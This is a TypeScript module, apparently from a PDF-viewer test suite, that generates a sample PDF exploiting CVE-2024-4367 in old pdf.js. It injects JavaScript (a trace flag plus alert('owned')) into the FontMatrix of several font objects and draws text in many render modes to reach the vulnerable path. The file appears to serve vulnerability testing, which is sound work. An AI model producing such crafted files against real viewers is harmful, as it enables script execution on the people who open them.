import type { SampleFile } from './chooseFiles.ts';

/** What the document tries to do to the page that shows it. */
export const TRACE = 'documentRanScript';

/**
 * CVE-2024-4367: old pdf.js made a program of a font's matrix. It stands here where each kind of font has one, with text drawn in
 * every way that asks for the outlines of letters.
 */
export function makeFontMatrixPdf(name: string): SampleFile {
  const script = String.raw`(1\); window.${TRACE} = true; alert\('owned'\); //)`;
  const matrix = `/FontMatrix[0.001 0 0 0.001 0 ${script}]`;
  const modes = [0, 1, 2, 4, 5, 6, 7];
  const lines = modes.map(
    (mode, index) =>
      `BT ${mode} Tr /F1 36 Tf 60 ${700 - index * 50} Td (Mode ${mode}) Tj /F2 36 Tf (aa) Tj /F3 36 Tf (x) Tj ET`,
  );
  const content = `BT 0 Tr /F3 36 Tf 60 60 Td (An honest line) Tj ET\n${lines.map((line) => `q ${line} Q`).join('\n')}`;
  const glyph = '1000 0 0 0 750 750 d1 0 0 750 750 re f';
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R/F2 6 0 R/F3 8 0 R>>>>>>',
    `<</Length ${content.length}>>\nstream\n${content}\nendstream`,
    `<</Type/Font/Subtype/Type1/BaseFont/Helvetica${matrix}>>`,
    `<</Type/Font/Subtype/Type3/FontBBox[0 0 750 750]${matrix}/CharProcs<</a 7 0 R>>/Encoding<</Type/Encoding/Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1000]/Resources<<>>>>`,
    `<</Length ${glyph.length}>>\nstream\n${glyph}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
  const text = `%PDF-1.7\n${body}trailer\n<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`;
  return { name, bytes: Buffer.from(text, 'latin1') };
}
